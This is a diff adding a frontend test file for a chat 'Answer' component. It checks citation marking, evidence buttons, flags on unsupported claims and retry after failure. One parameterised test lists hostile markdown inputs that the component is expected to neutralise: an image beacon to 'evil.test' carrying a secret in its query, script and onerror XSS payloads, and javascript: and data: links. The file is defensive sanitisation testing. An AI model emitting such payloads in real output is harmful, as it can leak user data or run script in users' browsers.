@@ -1,0 +1,102 @@
+import { render, screen, waitFor } from "@testing-library/react";
+import userEvent from "@testing-library/user-event";
+import { expect, test, vi } from "vitest";
+import type { Citation } from "../../shared/api/client";
+import { InTheme } from "../../shared/ui/InTheme";
+import { Answer } from "./Answer";
+import { ConversationStore } from "./conversationStore";
+import { type AnswerContent, EMPTY_ANSWER } from "./turnReducer";
+
+function citation(text: string, words: string, number = 1): Citation {
+  const start = Array.from(text.slice(0, text.indexOf(words))).length;
+  const end = start + Array.from(words).length;
+  const evidence = { evidence_id: `e${number}`, document_id: "d", document_name: "cv.pdf", path: "/work/0" };
+  return {
+    number,
+    start,
+    end,
+    ...evidence,
+    quote: "The very line",
+    section: "Work",
+    page: 2,
+    document_date: null,
+  };
+}
+
+async function show(content: Partial<AnswerContent> & { text: string }, onOpenCitation = vi.fn()) {
+  const answer = {
+    id: "a",
+    turnId: "t",
+    content: { ...EMPTY_ANSWER, status: "complete" as const, ...content },
+    siblingIds: ["a"],
+    feedback: null,
+  };
+  const store = new ConversationStore("ada");
+  const view = render(
+    <Answer answer={answer} who="Ada" store={store} idle connected onOpenCitation={onOpenCitation} />,
+    { wrapper: InTheme },
+  );
+  await waitFor(() => expect(view.container.querySelector("[class*=markdown]")).not.toBeNull());
+  return { ...view, onOpenCitation };
+}
+
+const marks = (container: HTMLElement) =>
+  [...container.querySelectorAll("mark")].map((mark) => mark.textContent);
+
+test("the words of a citation are marked, whatever stands before them", async () => {
+  const text = "🚀 Ada &amp; Co built an *engine* in \\*1843\\*.";
+  const { container } = await show({ text, citations: [citation(text, "an *engine* in \\*1843\\*")] });
+
+  expect(marks(container).join("")).toBe("an engine in *1843*");
+});
+
+test("two citations of one line have one number", async () => {
+  const text = "First words. Second words.";
+  const citations = [citation(text, "First words", 7), { ...citation(text, "Second words", 7) }];
+  await show({ text, citations });
+
+  expect(screen.getAllByRole("button", { name: /^Evidence 1/ })).toHaveLength(2);
+});
+
+test("a numeral leads to its evidence", async () => {
+  const text = "Ada wrote it.";
+  const cited = citation(text, "Ada wrote it");
+  const { onOpenCitation } = await show({ text, citations: [cited] });
+  await userEvent.click(screen.getByRole("button", { name: /^Evidence 1/ }));
+
+  expect(onOpenCitation).toHaveBeenCalledWith(cited);
+});
+
+test("words without evidence are pointed out", async () => {
+  const text = "Ada wrote it in 1844.";
+  const notices = [{ code: "unsupported", message: "", spans: [[16, 20]] as [number, number][] }];
+  await show({ text, notices });
+
+  expect(screen.getByText("1844").getAttribute("class")).toContain("doubt");
+});
+
+test.each([
+  ["![x](https://evil.test/p.png?d=SECRET)", "img, link[rel=preload]"],
+  ["![x][r]\n\n[r]: https://evil.test/p.png", "img, link[rel=preload]"],
+  ["<img src=x onerror=alert(1)><script>alert(1)</script>", "img, script"],
+  ["[x](javascript:alert(1))", "a"],
+  ["[x](data:text/html,hello)", "a"],
+  ["<a href='https://evil.test'>x</a>", "a"],
+])("%s brings nothing in", async (text, forbidden) => {
+  await show({ text });
+
+  expect(document.querySelector(forbidden)).toBeNull();
+});
+
+test("a link says nothing of where it was followed", async () => {
+  await show({ text: "[code](https://example.org/x)" });
+
+  expect(screen.getByRole("link").getAttribute("rel")).toBe("noopener noreferrer nofollow");
+});
+
+test("an answer that failed can be tried again", async () => {
+  const failure = { code: "provider_timeout", message: "The model took too long.", retryable: true };
+  await show({ text: "Half an ans", status: "failed", failure });
+
+  expect(screen.getByRole("alert").textContent).toContain("The model took too long.Try again");
+});
